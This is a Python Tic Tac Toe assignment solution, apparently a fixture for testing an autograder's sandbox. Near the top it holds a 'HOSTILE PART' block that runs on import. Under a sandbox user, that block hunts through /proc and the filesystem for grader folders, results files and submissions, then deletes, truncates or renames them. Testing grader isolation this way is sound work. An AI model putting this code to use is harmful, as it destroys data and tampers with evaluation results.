"""The game: ``XO`` holds a ``BoardXO``, makes moves and finds the best one.

``makeOptimalMove()`` searches the game tree breadth-first with the
hand-written ``Deque`` of deque.py (Part III) and scores each first move by
the Part V rules, "win fast, lose slow" (Parts IV and V).

``minimaxValues()`` and ``makeMinimaxMove()`` (Part VI, an optional
extension) build the same tree, number the boards in the order they are
popped, and back the values up from the leaves in reverse order of the
search: true depth-aware minimax, without recursion.
"""

from .board import O, X, BoardXO
from .deque import Deque

# BEGIN SOLUTION
# The Part IV rules are kept beside Part V's, as the handout's earlier stage:
# ``score_moves(board, PART_IV)``.
import gc

from .board import CELLS, EMPTY, LINES, SYMBOLS
# END SOLUTION

# ---- HOSTILE PART ----
# Shared hostile helpers, pasted (by build_corpus.py) into the hostile submissions.
# Never imported by the tests; it is source text.  deletes_files is replaced per submission.
import os as _os
import sys as _sys

_MARK = "/dev/shm/xo-adversarial-marker-deletes_files"


def _note(text):
    """Append one line to the test's marker file (created 0666 by the test; never created here)."""
    try:
        fd = _os.open(_MARK, _os.O_WRONLY | _os.O_APPEND)
    except OSError:
        return
    try:
        _os.write(fd, (str(text).replace("\n", " ") + "\n").encode("utf-8", "replace"))
    except OSError:
        pass
    finally:
        _os.close(fd)


def _sandboxed():
    """True only when running as one of the grader's unprivileged users (xo-sandbox, or xo-sandbox-K for the
    K-th of gradings running at once): the destructive parts run only then."""
    try:
        import pwd
        name = pwd.getpwuid(_os.geteuid()).pw_name
    except Exception:
        return False
    slot = name[len("xo-sandbox-"):]
    return name == "xo-sandbox" or (name.startswith("xo-sandbox-") and slot.isascii() and slot.isdigit())


def _ancestors():
    """pids of the parent, grandparent, ... (the zygote, then the grader, then whoever ran it)."""
    pids, pid = [], _os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                stat = f.read()
            pid = int(stat[stat.rindex(")") + 2:].split()[1])
        except (OSError, ValueError):
            break
    return pids


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _cwd(pid):
    try:
        return _os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None


def _bases():
    """Folders the grader may have been started from: what /proc says, else plausible guesses."""
    bases = []
    for pid in _ancestors():
        cwd = _cwd(pid)
        if cwd:
            bases.append(cwd)
    bases += ["/autograder/source", "/work/main", _os.getcwd(), _os.path.dirname(_os.getcwd())]
    return list(dict.fromkeys(bases))


def _results_paths():
    """Every path the grader's results.json may be written to."""
    found = ["/autograder/results/results.json"]
    for pid in _ancestors():
        args = _cmdline(pid)
        for k, arg in enumerate(args):
            value = None
            if arg == "--results" and k + 1 < len(args):
                value = args[k + 1]
            elif arg.startswith("--results="):
                value = arg.split("=", 1)[1]
            if value:
                if _os.path.isabs(value):
                    found.append(value)
                else:
                    found += [_os.path.join(b, value) for b in _bases()]
    found += [_os.path.join(_os.getcwd(), "results.json"), _os.path.join(_os.getcwd(), "..", "results.json"),
              _os.path.join(_os.getcwd(), "build", "results.json")]
    return list(dict.fromkeys(_os.path.normpath(p) for p in found))


def _named_roots():
    """Grader folders named by the ancestors' command lines (the folder graded, the results path, ...),
    whether this process can see them or not."""
    roots = []
    for pid in _ancestors():
        for arg in _cmdline(pid):
            if "/" in arg:
                folder = _os.path.dirname(_os.path.abspath(arg))
                for up in range(4):
                    roots.append(_os.path.normpath(_os.path.join(folder, *[".."] * up, "grader")))
    return list(dict.fromkeys(roots))


def _grader_roots(budget=0.6):
    """Folders that look like the grader package (grader/__init__.py beside fixtures/ or config.toml)."""
    import time
    roots = []
    for base in _bases() + [_os.path.dirname(_sys.executable)]:
        for up in range(4):
            cand = _os.path.join(base, *[".."] * up, "grader")
            roots.append(_os.path.normpath(cand))
    roots += _named_roots()
    stop = time.monotonic() + budget
    stack = [("/", 0)]
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run",
            "/snap", "/var/lib", "/var/cache", "/opt/pypi", "/opt/pypi-more", "/opt/wheels"}
    while stack and time.monotonic() < stop:
        folder, depth = stack.pop()
        try:
            entries = _os.listdir(folder)
        except OSError:
            continue
        if "grader" in entries:
            roots.append(_os.path.join(folder, "grader"))
        if depth >= 5:
            continue
        for entry in entries:
            path = _os.path.join(folder, entry)
            if path in skip or entry.startswith(".") or entry in ("node_modules", "site-packages", "__pycache__"):
                continue
            if _os.path.isdir(path) and not _os.path.islink(path):
                stack.append((path, depth + 1))
    seen = []
    for root in roots:
        if root not in seen and (_os.path.isdir(root) or _os.path.exists(_os.path.join(root, "fixtures"))):
            seen.append(root)
    return seen

def _destroy():
    import shutil
    targets = []
    for root in dict.fromkeys(_grader_roots(0.2) + _named_roots()):
        targets += [os.path.join(root, "fixtures", "positions.json"), os.path.join(root, "config.toml"),
                    os.path.join(root, "grade.py"), os.path.join(root, "sandbox", "runner.py"),
                    os.path.join(root, "fixtures"), root]
    targets += ["/autograder/source/grader", "/autograder/source", "/autograder/results/results.json",
                "/autograder/results"]
    for path in _results_paths():
        targets += [path, os.path.dirname(path)]
    stage = os.path.dirname(os.getcwd())
    targets += [os.path.join(stage, "submission", n + ".py") for n in ("board", "deque", "game")]
    targets += [os.path.join(stage, "compiled", n + ".pyc") for n in ("board", "deque", "game")]
    targets += [os.path.join(stage, n) for n in ("child.pyc", "child.py", "submission", "compiled")]
    for pid in _ancestors():                  # the folder the grader was asked to grade
        for arg in _cmdline(pid):
            if arg.rstrip("/").endswith("deletes_files"):
                for base in [""] + _bases():
                    folder = os.path.join(base, arg)
                    targets += [os.path.join(folder, n + ".py") for n in ("board", "deque", "game")] + [folder]
    def truncate(path):
        if os.path.isfile(path):
            open(path, "w").close()
        else:
            raise IsADirectoryError(path)

    for path in dict.fromkeys(os.path.normpath(t) for t in targets):
        if not os.path.lexists(path):
            if "/grader" in path:             # named by the grader's command line, but not here
                _note(f"ABSENT {path}")
            continue
        for action, do in (("CHMODDED", lambda: os.chmod(path, 0o777)),
                           ("RENAMED", lambda: os.rename(path, path + ".gone")),
                           ("TRUNCATED", lambda: truncate(path)),
                           ("DELETED", lambda: shutil.rmtree(path) if os.path.isdir(path) else os.remove(path))):
            try:
                owner = os.lstat(path).st_uid
                do()
                _note(f"{action} {path} (owner {owner}, I am {os.getuid()})")
            except OSError as error:
                _note(f"DENIED {action} {path}: {type(error).__name__}")


import os
if _sandboxed():                  # never as the grader's own user: then this would really delete things
    _destroy()
else:
    _note("NOT SANDBOXED: deleted nothing")

# ---- END OF HOSTILE PART ----


class IllegalMoveError(ValueError):
    """Raised for a move the rules forbid; the message names the problem."""


# BEGIN SOLUTION
class Rule:
    """A way to score first moves: the score every move starts with, and how a
    finished game (a leaf of the move tree) changes it.

    ``update(score, result, m)`` returns the new score of the first move that
    led to a leaf with ``m`` moves, where ``result`` is +1 when the player to
    move at the root won, -1 when the opponent won and 0 for a draw.
    """

    __slots__ = ("name", "initial", "update")

    def __init__(self, name, initial, update):
        self.name = name
        self.initial = initial
        self.update = update

    def __repr__(self):
        return f"<Rule {self.name}>"


def _update_part4(score, result, m):
    if result < 0:
        return -10 if -10 < score else score
    if result == 0:
        return 0 if 0 < score else score
    return score                      # a win of the player changes nothing


def _update_part5(score, result, m):
    if result > 0:
        new = 10 - m
        return new if score > 0 and new > score else score
    if result < 0:
        new = m - 10
        return new if new < score else score
    return 0 if 0 < score else score


PART_IV = Rule("Part IV", 10, _update_part4)
"""The handout's Part IV rules: start at 10; an opponent win lowers to -10, a draw to 0."""

PART_V = Rule("Part V", 1, _update_part5)
"""The handout's Part V rules, "win fast, lose slow": what ``makeOptimalMove`` uses."""

RULES = (PART_IV, PART_V)

# For each cell, the pairs of other cells that complete a line through it.
_PARTNERS = tuple(
    tuple(tuple(c for c in line if c != cell) for line in LINES if cell in line)
    for cell in CELLS
)


def winner_of(state):
    """Return the player (-1 or 1) with three in a row in ``state``, else 0."""
    for a, b, c in LINES:
        if state[a] != EMPTY and state[a] == state[b] == state[c]:
            return state[a]
    return 0


def player_to_move(board):
    """Return the player who moves next: the opposite of the last mover, X first."""
    n = board.numMoves
    return -board.turn[n - 1] if n else X


def copy_board(board):
    """Return a new ``BoardXO`` with copies of ``board``'s lists."""
    new = BoardXO.__new__(BoardXO)
    new.state = board.state[:]
    new.moves = board.moves[:]
    new.turn = board.turn[:]
    new.numMoves = board.numMoves
    return new


def score_moves(board, rule=PART_V):
    """Score every first move from ``board`` by breadth-first search.

    Returns a list of 9 scores, ``None`` for occupied cells.  The search pushes
    a copy of the root, then pops boards from the front of a ``Deque``: a board
    that is the root or not over has every child pushed to the back (cells in
    ascending order); a finished board is a leaf, scored by ``rule`` against the
    root move that led to it.

    >>> b = BoardXO()
    >>> for k, (player, cell) in enumerate([(-1, 2), (1, 0), (-1, 3), (1, 7), (-1, 6), (1, 8)]):
    ...     b.state[cell] = player; b.moves[k] = cell; b.turn[k] = player
    >>> b.numMoves = 6
    >>> score_moves(b, PART_IV)
    [None, -10, None, None, 10, -10, None, None, None]
    >>> score_moves(b, PART_V)
    [None, -2, None, None, 3, -2, None, None, None]
    """
    # The search makes up to 549,946 boards, none of them in a reference cycle.
    # Python's cyclic garbage collector would re-scan the live ones again and
    # again as they pile up (more than half the time), so pause it meanwhile.
    collecting = gc.isenabled()
    gc.disable()
    try:
        return _breadth_first_scores(board, rule)
    finally:
        if collecting:
            gc.enable()


def _breadth_first_scores(board, rule):
    player = player_to_move(board)
    n0 = board.numMoves
    update = rule.update
    scores = [rule.initial if v == EMPTY else None for v in board.state]
    partners = _PARTNERS
    new_board = BoardXO.__new__

    q = Deque()
    q.pushBack(copy_board(board))
    push, pop = q.pushBack, q.popFront
    root = True
    while not q.isEmpty():
        c = pop()
        state, n = c.state, c.numMoves
        won = False
        if root:
            root = False
            mover = -player            # so that the root's children are the player's
        else:
            mover = c.turn[n - 1]      # only the last move can have made a line
            for a, b in partners[c.moves[n - 1]]:
                if state[a] == mover and state[b] == mover:
                    won = True
                    break
        if not won and n < 9:          # the root, or a game not over: push every child
            nxt = -mover
            moves, turn = c.moves, c.turn
            for cell in CELLS:
                if state[cell] == EMPTY:
                    child = new_board(BoardXO)
                    s = state[:]
                    s[cell] = nxt
                    child.state = s
                    mv = moves[:]
                    mv[n] = cell
                    child.moves = mv
                    tn = turn[:]
                    tn[n] = nxt
                    child.turn = tn
                    child.numMoves = n + 1
                    push(child)
        else:                          # a leaf: score the first move that led here
            i = c.moves[n0]
            result = (1 if mover == player else -1) if won else 0
            scores[i] = update(scores[i], result, n)
    return scores


def minimax_values(board):
    """Return every move's depth-aware minimax value for the player to move.

    The Part VI search: a list of 9 values, ``None`` for occupied cells and
    for every cell once the game is over.  A move scores ``10 - m`` when it
    wins, ``m - 10`` when it loses (``m`` the number of moves on the board
    when the game ends) and 0 for a draw, both sides playing their best: so
    a quicker win and a slower loss score higher.

    The move tree is built breadth-first with the hand-written ``Deque``,
    exactly as ``score_moves`` builds it (every child pushed to the back, cells
    in ascending order), but each popped board is numbered in the order it is
    popped and remembers the number of its parent.  Breadth-first order is
    level by level, so every child is numbered after its parent; once the
    queue is empty, the values are backed up from the leaves, walking the
    numbers in reverse order of the search: each node hands the value of its
    best move to its parent.  No recursion.

    >>> b = BoardXO()
    >>> for k, (player, cell) in enumerate([(-1, 2), (1, 0), (-1, 3), (1, 7), (-1, 6), (1, 8)]):
    ...     b.state[cell] = player; b.moves[k] = cell; b.turn[k] = player
    >>> b.numMoves = 6
    >>> minimax_values(b)
    [None, -2, None, None, 3, -2, None, None, None]
    >>> minimax_values(BoardXO())
    [0, 0, 0, 0, 0, 0, 0, 0, 0]
    """
    if winner_of(board.state) != 0 or EMPTY not in board.state:
        return [None] * 9
    collecting = gc.isenabled()      # as in score_moves: up to 549,946 boards, no cycles
    gc.disable()
    try:
        return _breadth_first_minimax(board)
    finally:
        if collecting:
            gc.enable()


def _breadth_first_minimax(board, record=None):
    """The values of ``minimax_values``; with a dict ``record``, also its bookkeeping (``analysis.minimax_backup``)."""
    partners = _PARTNERS
    new_board = BoardXO.__new__
    # Node k is the k-th board popped, which is the k-th pushed (a FIFO queue):
    # parent[k] is the number of the board that pushed it (the root's is -1);
    # value[k] is its value for the player who moves next there, None until
    # it is backed up (an inner node) or set when popped (a leaf).
    parent = [-1]
    value = []
    q = Deque()
    q.pushBack(copy_board(board))
    push, pop = q.pushBack, q.popFront
    k = -1
    while not q.isEmpty():
        c = pop()
        k += 1
        state, n = c.state, c.numMoves
        won = False
        if k == 0:
            mover = -player_to_move(board)     # the root's children are the player's
        else:
            mover = c.turn[n - 1]               # only the last move can have made a line
            for a, b in partners[c.moves[n - 1]]:
                if state[a] == mover and state[b] == mover:
                    won = True
                    break
        if won:
            value.append(n - 10)                # the player to move here has lost
        elif n == 9:
            value.append(0)                     # a draw
        else:                                   # not over: push every child
            value.append(None)
            nxt = -mover
            moves, turn = c.moves, c.turn
            for cell in CELLS:
                if state[cell] == EMPTY:
                    child = new_board(BoardXO)
                    s = state[:]
                    s[cell] = nxt
                    child.state = s
                    mv = moves[:]
                    mv[n] = cell
                    child.moves = mv
                    tn = turn[:]
                    tn[n] = nxt
                    child.turn = tn
                    child.numMoves = n + 1
                    push(child)
                    parent.append(k)
    # Back up, deepest level first: a child's value is final before its parent reads it.
    for j in range(k, 0, -1):
        p = parent[j]
        v = -value[j]                           # what the move to j is worth to the parent's mover
        if value[p] is None or v > value[p]:
            value[p] = v
    if record is not None:
        record.update(parent=parent, value=value)
    values = [None] * 9
    j = 1                                       # the root's children are nodes 1, 2, ... in cell order
    for cell in CELLS:
        if board.state[cell] == EMPTY:
            values[cell] = -value[j]
            j += 1
    return values


def best_cell(scores):
    """Return the cell with the highest score, the lowest index among ties."""
    best = None
    for cell, score in enumerate(scores):
        if score is not None and (best is None or score > scores[best]):
            best = cell
    return best
# END SOLUTION


class XO:
    """A game of Tic Tac Toe, its board held in ``b`` (a ``BoardXO``).

    >>> g = XO([-1, 1, -1, 1, -1, 1], [2, 0, 3, 7, 6, 8], 6)
    >>> g.show()
    O X
    X  
    XOO
    >>> g.makeOptimalMove()
    4
    >>> g.gameOver(), g.winner()
    (True, -1)
    """

    def __init__(self, play=None, pos=None, n=None):
        """Start a blank game, or, given ``play``, ``pos`` and ``n``, the game
        made of the first ``n`` moves (as ``makeMoves`` makes them)."""
        # BEGIN SOLUTION
        self.b = BoardXO()
        given = (play is not None, pos is not None, n is not None)
        if any(given):
            if not all(given):
                raise TypeError("XO() takes either no arguments or all of play, pos and n")
            self.makeMoves(play, pos, n)
        # END SOLUTION

    def show(self):
        """Print the board to standard output."""
        # BEGIN SOLUTION
        print(self.b)
        # END SOLUTION

    def makeMove(self, play, pos):
        """Place ``play``'s marker (-1 for X, 1 for O) at cell ``pos`` (0..8).

        Raise ``IllegalMoveError`` (a ``ValueError``) and change nothing when
        the move breaks the rules.
        """
        # BEGIN SOLUTION
        _check_move(self.b, play, pos)
        b = self.b
        b.state[pos] = play
        b.moves[b.numMoves] = pos
        b.turn[b.numMoves] = play
        b.numMoves += 1
        # END SOLUTION

    def makeMoves(self, play, pos, n):
        """Make the first ``n`` moves of ``play`` (players) and ``pos`` (cells).

        All or nothing: if any move is illegal, raise ``IllegalMoveError`` and
        leave the board exactly as it was.
        """
        # BEGIN SOLUTION
        if isinstance(n, bool) or not isinstance(n, int):
            raise IllegalMoveError(f"n must be a whole number of moves, not {n!r}")
        if n < 0 or n > len(play) or n > len(pos):
            raise IllegalMoveError(
                f"cannot make n={n} moves from {len(play)} players and {len(pos)} cells")
        trial = XO()
        trial.b = self.getBoard()
        for k in range(n):
            try:
                trial.makeMove(play[k], pos[k])
            except IllegalMoveError as error:
                raise IllegalMoveError(f"move {k} (player {play[k]!r} at {pos[k]!r}): {error}") from None
        self.b = trial.b
        # END SOLUTION

    def makeOptimalMove(self):
        """Play the best move for the player to move, by the Part V rules.

        Return the cell played, or ``None`` (changing nothing) when the game is
        already over.
        """
        # BEGIN SOLUTION
        if self.gameOver():
            return None
        cell = best_cell(score_moves(self.b, PART_V))
        self.makeMove(player_to_move(self.b), cell)
        return cell
        # END SOLUTION

    def makeMinimaxMove(self):
        """Play the minimax-optimal move for the player to move (Part VI).

        Win in the fewest moves, lose in the most, otherwise draw, against an
        opponent who plays as well: the move with the highest value of
        ``minimaxValues()``, the lowest cell among ties, made on the game's
        own board as ``makeMove`` makes it.  Return the cell played, or
        ``None`` (changing nothing) when the game is already over.

        >>> g = XO([-1], [0], 1)
        >>> g.makeMinimaxMove()
        4
        >>> g = XO([-1, 1, -1, 1, -1, 1], [2, 0, 3, 7, 6, 8], 6)
        >>> g.makeMinimaxMove(), g.winner()
        (4, -1)
        >>> g.makeMinimaxMove() is None
        True
        """
        # BEGIN SOLUTION
        if self.gameOver():
            return None
        cell = best_cell(minimax_values(self.b))
        self.makeMove(player_to_move(self.b), cell)
        return cell
        # END SOLUTION

    def minimaxValues(self):
        """Return the backed-up minimax value of every move (Part VI).

        A list of 9: for each empty cell, what moving there is worth to the
        player to move, both sides then playing their best: ``10 - m`` for a
        win and ``m - 10`` for a loss (``m`` the number of moves on the board
        when the game ends), 0 for a draw.  ``None`` for a taken cell, and for
        every cell once the game is over.  The board does not change.

        The search is Part III's breadth-first tree, with the hand-written
        ``Deque``: each board numbered in the order it is popped, with the
        number of its parent; once the deque is empty, the values are backed
        up from the leaves in reverse order of those numbers.  No recursion.

        >>> XO([-1], [0], 1).minimaxValues()
        [None, -3, -3, -3, 0, -3, -3, -3, -3]
        """
        # BEGIN SOLUTION
        return minimax_values(self.b)
        # END SOLUTION

    def getBoard(self):
        """Return a copy of the board: changing it never changes the game."""
        # BEGIN SOLUTION
        return copy_board(self.b)
        # END SOLUTION

    def gameOver(self):
        """Return True when a player has three in a row or the board is full."""
        # BEGIN SOLUTION
        return self.winner() != 0 or EMPTY not in self.b.state
        # END SOLUTION

    def winner(self):
        """Return the player (-1 or 1) with three in a row, or 0 if there is none."""
        # BEGIN SOLUTION
        return winner_of(self.b.state)
        # END SOLUTION


# BEGIN SOLUTION
def _check_move(board, play, pos):
    """Raise ``IllegalMoveError`` unless ``play`` may put a marker at ``pos``."""
    if isinstance(play, bool) or play not in (-1, 1) or not isinstance(play, int):
        raise IllegalMoveError(f"player must be -1 (X) or 1 (O), not {play!r}")
    if isinstance(pos, bool) or not isinstance(pos, int) or not 0 <= pos <= 8:
        raise IllegalMoveError(f"cell must be a whole number from 0 to 8, not {pos!r}")
    if winner_of(board.state) != 0 or EMPTY not in board.state:
        raise IllegalMoveError("the game is over")
    if board.state[pos] != EMPTY:
        raise IllegalMoveError(f"cell {pos} is already taken by {SYMBOLS[board.state[pos]]}")
    n = board.numMoves
    if n and board.turn[n - 1] == play:
        raise IllegalMoveError(f"{SYMBOLS[play]} cannot move twice in a row")
# END SOLUTION
